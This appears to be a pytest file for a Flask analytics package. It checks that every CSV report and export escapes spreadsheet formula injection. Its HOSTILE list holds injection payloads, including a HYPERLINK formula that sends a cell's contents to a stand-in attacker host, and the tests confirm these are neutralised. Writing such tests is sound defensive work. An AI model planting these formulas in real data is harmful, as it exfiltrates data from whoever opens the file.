"""Every CSV flask-journey writes opens in a spreadsheet without running a sender's formula.

Senders write step keys, field keys, event names, error types, drop-off reasons and traffic
sources; each of the hostile values below goes in over HTTP, then every CSV output (each report
table through the report API, the dashboard's download and a share link's download, ``flask
journey report --format csv`` and ``flask journey export --format csv``) is read back with the
csv module: no cell begins with a formula character, and the numbers are still numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any
from urllib.parse import quote

import pytest

from flask_journey.reports.tables import TABLES
from flask_journey.spreadsheet import FORMULA_STARTS, cell, to_csv

from .helpers import JOURNEY, ORG, ORIGIN, batch, event, post

HOSTILE = ['=HYPERLINK("https://evil.invalid/?"&A1,"help")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
#: Columns that hold counts, in every table that has them.
COUNTS = ("sessions", "starters", "completions", "dropoffs", "count", "errorSessions")


@pytest.fixture
def config() -> dict[str, Any]:
    return {"SECRET_KEY": "csv-test-secret", "JOURNEY_REPORT_MAX_STALENESS": 0}


@pytest.fixture
def sent(client, cli, journey) -> None:
    """Each hostile value as a step key, field key, error type, reason, source and event name."""
    for n, value in enumerate(HOSTILE):
        url = f"{ORIGIN}/apply?utm_source={quote(value)}"
        now = dt.datetime.now(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000Z")
        common = {"sessionId": f"sess_{n}", "url": url, "ts": now}
        events = [
            event("session_start", n, **common),
            event("step_view", n, stepKey=value, **common),
            event("field_focus", n, stepKey=value, fieldKey=value, **common),
            event("validation_error", n, fieldKey=value, errorType=value, **common),
            event("dropoff_signal", n, stepKey=value, reason=value, **common),
        ]
        assert post(client, batch(*events)).status_code == 204
        custom = {"projectKey": journey["publicKey"], "event_name": value, "url": url}
        response = client.post("/api/events", json=custom, headers={"Origin": ORIGIN})
        assert response.status_code == 200


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_safe(text: str) -> list[dict[str, str]]:
    rows = _cells(text)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
            # A share link writes a count under JOURNEY_SHARE_MIN_SESSIONS as "< 10".
            if column in COUNTS and value and not value.startswith("< "):
                assert int(value) >= 0, (column, value)
    return rows


def _every_table_csv(client, cli, api_key: str) -> dict[str, str]:
    auth = {"Authorization": f"Bearer {api_key}"}
    page = f"/journey/{ORG}/{JOURNEY}"
    token = cli("share", ORG, JOURNEY).strip().rstrip("/").rsplit("/", 1)[-1]
    outputs = {}
    for table in TABLES:
        query = f"table={table}&breakdown=source"
        outputs[f"api {table}"] = client.get(
            f"/api/journeys/{JOURNEY}/report?format=csv&{query}", headers=auth
        )
        outputs[f"dashboard {table}"] = client.get(f"{page}/report.csv?{query}")
        outputs[f"share {table}"] = client.get(f"/journey/share/{token}/report.csv?{query}")
    texts = {}
    for name, response in outputs.items():
        assert response.status_code == 200, (name, response.get_data(as_text=True))
        assert response.mimetype == "text/csv"
        texts[name] = response.get_data(as_text=True)
    for table in TABLES:
        texts[f"cli {table}"] = cli(
            "report", ORG, JOURNEY, "--format", "csv", "--table", table, "--by", "source"
        )
    return texts


def _sign_in(client, key: str) -> None:
    page = client.get("/journey/sign-in").get_data(as_text=True)
    token = page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    client.post("/journey/sign-in", data={"csrf_token": token, "key": key})


def test_no_report_csv_has_a_formula_cell_and_counts_stay_numbers(client, cli, api_key, sent):
    _sign_in(client, api_key)

    texts = _every_table_csv(client, cli, api_key)

    parsed = {name: _assert_safe(text) for name, text in texts.items()}
    for surface in ("api", "dashboard", "share", "cli"):
        steps = {row["stepKey"] for row in parsed[f"{surface} steps"]}
        assert '\'=HYPERLINK("https://evil.invalid/?"&A1,"help")' in steps
        assert {"'+1", "'-2+3", "'@SUM(1)", "\\x09x", "\\x0dx"} <= steps
        fields = {row["fieldKey"] for row in parsed[f"{surface} fields"]}
        assert {"'+1", "'-2+3", "'@SUM(1)"} <= fields
        names = {row["name"] for row in parsed[f"{surface} events"]}
        assert {"'+1", "'-2+3", "'@SUM(1)"} <= names
        sources = {row["value"] for row in parsed[f"{surface} breakdown"]}
        assert {"'+1", "'-2+3", "'@SUM(1)"} <= sources
        current = next(row for row in parsed[f"{surface} totals"] if row["period"] == "current")
        assert current["sessions"] == str(2 * len(HOSTILE))  # seed 000's and seed 004's


def test_the_export_csv_has_no_formula_cell(cli, sent):
    rows = _assert_safe(cli("export", "--format", "csv"))

    steps = {row["step_key"] for row in rows if row["type"] == "step_view"}
    assert steps == {"'" + value for value in HOSTILE[:4]} | {"\\x09x", "\\x0dx"}
    errors = {row["error_type"] for row in rows if row["type"] == "validation_error"}
    assert '\'=HYPERLINK("https://evil.invalid/?"&A1,"help")' in errors
    names = {row["name"] for row in rows if row["wire_format"] == "project"}
    assert {"'+1", "'-2+3", "'@SUM(1)"} <= names
    assert all(row["schema_version"] in ("", "1") for row in rows)


@pytest.mark.parametrize(
    "value, written",
    [
        (-3, -3),
        (2.5, 2.5),
        (0, 0),
        (None, ""),
        ("-3", "'-3"),
        ("=1+1", "'=1+1"),
        ("plain", "plain"),
        ("a\u202eb", "a\\u202eb"),
        ("\x1b[2J", "\\x1b[2J"),
        ({"-x": 1}, '{"-x":1}'),
    ],
)
def test_a_cell_is_a_number_or_text_that_is_no_formula(value, written):
    assert cell(value) == written


def test_numbers_are_written_as_numbers():
    text = to_csv(("a", "b", "c"), [{"a": -3, "b": 0.25, "c": "-3"}])

    assert text.splitlines() == ["a,b,c", "-3,0.25,'-3"]
